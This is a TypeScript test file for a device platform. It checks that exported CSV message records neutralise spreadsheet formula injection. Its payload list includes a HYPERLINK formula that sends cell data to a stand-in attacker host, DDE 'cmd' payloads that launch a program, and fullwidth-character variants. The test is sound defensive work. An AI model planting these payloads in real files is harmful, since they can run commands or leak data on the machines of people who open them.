import { recordCalls } from '@device-center/contract';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { parseCsv } from '../../src/platform/csv.ts';
import { createProductFixture } from '../device-fixtures.ts';
import { messageRow } from '../device-records.ts';
import type { Hub } from '../hub.ts';
import { startHub } from '../in-process-hub.ts';

let hub: Hub;
beforeAll(async () => {
  hub = await startHub();
});
afterAll(() => hub.close());

const formulas = [
  '=HYPERLINK("http://evil.example.net/?x="&A1)',
  '+1+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
];

it('exports no cell that a spreadsheet would execute', async () => {
  const { tenancyId, applicationId, productId } = await createProductFixture(hub);
  const deviceId = await hub.create.device({ productId, applicationId });
  const whose = { tenancyId, productId, deviceId };
  const rows = formulas.map((value, message_id) => messageRow(whose, { value, function_id: value, message_id }));
  await hub.records.insertInto('message_record').values(rows).execute();
  const { data } = await hub.admin.send(recordCalls.exportDeviceMessages, { deviceId });
  const cells = (await parseCsv(String(data), 10_000)).flatMap((row) => row.cells);
  for (const formula of formulas) expect(cells.join('\n')).toContain(formula.trim());
  expect(cells.filter((cell) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell))).toEqual([]);
});
